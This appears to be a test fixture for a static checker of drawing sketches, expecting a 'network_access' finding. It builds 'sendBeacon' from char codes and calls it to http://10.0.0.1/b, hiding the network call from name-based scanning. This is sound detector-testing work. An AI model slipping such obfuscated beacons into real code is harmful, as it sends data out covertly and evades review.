// expect: network_access
// Paints through eval of char codes (allowed), then hides a sendBeacon the
// same way: the static check sees neither name.
const decode = (codes) => String.fromCharCode(...codes);
function setup() {
  createCanvas(160, 160, WEBGL);
  brush.set("HB", "#222", 1);
  eval(decode([98, 114, 117, 115, 104, 46, 108, 105, 110, 101]) + "(-60, -60, 60, 60)");
  try {
    navigator[decode([115, 101, 110, 100, 66, 101, 97, 99, 111, 110])]("http://10.0.0.1/b", "x");
  } catch (e) { /* carry on */ }
}
